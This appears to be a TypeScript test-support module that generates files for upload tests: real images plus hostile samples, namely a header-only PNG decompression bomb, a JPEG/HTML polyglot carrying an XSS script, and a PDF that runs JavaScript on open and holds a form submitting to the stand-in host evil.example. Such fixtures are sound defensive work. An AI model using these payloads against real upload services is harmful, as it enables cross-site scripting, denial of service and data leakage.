/**
 * Files for the upload tests (server, end-to-end): real pictures, and the hostile kinds issue 23
 * was filed with. Test support only; nothing in the server imports it.
 */
import { crc32 } from 'node:zlib';
import { createCanvas } from '@napi-rs/canvas';

/** A real picture of the given kind: a few coloured pixels, drawn and encoded by Skia. */
export function picture(type: 'image/png' | 'image/jpeg', width = 4, height = 3): Buffer {
  const canvas = createCanvas(width, height);
  const context = canvas.getContext('2d');
  context.fillStyle = '#2a6';
  context.fillRect(0, 0, width, height);
  return type === 'image/png' ? canvas.toBuffer('image/png') : canvas.toBuffer('image/jpeg');
}

/** A PNG signature and a valid IHDR chunk claiming `width` × `height`, and nothing after: a header-only "bomb". */
export function pngHeader(width: number, height: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, deflate, adaptive filter, no interlace
  const chunk = Buffer.concat([Buffer.from('IHDR'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(chunk));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(13);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), length, chunk, crc]);
}

/** The JPEG magic bytes, then a web page: saved as `poly.html` it would open as one (issue 23, defect 2). */
export function jpegHtmlPolyglot(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('<html><script>alert(document.domain)</script></html>')]);
}

/**
 * A one-page PDF that runs JavaScript when opened (`/OpenAction` → `app.alert`) and holds a form
 * that submits to another site: what a browser's PDF viewer runs and pdf.js on the server does not.
 */
export function hostilePdf(alert = 'pdf script ran'): Buffer {
  const text = 'BT /F1 24 Tf 72 700 Td (Hostile referral) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AcroForm << /Fields [7 0 R] >> >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources << /Font << /F1 3 0 R >> >> /Annots [7 0 R] >>',
    `<< /Type /Action /S /JavaScript /JS (app.alert\\(${JSON.stringify(alert)}\\);) >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 272 640] /P 4 0 R' +
      ' /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>',
  ];
  let pdf = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(pdf.length);
    pdf += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = pdf.length;
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}
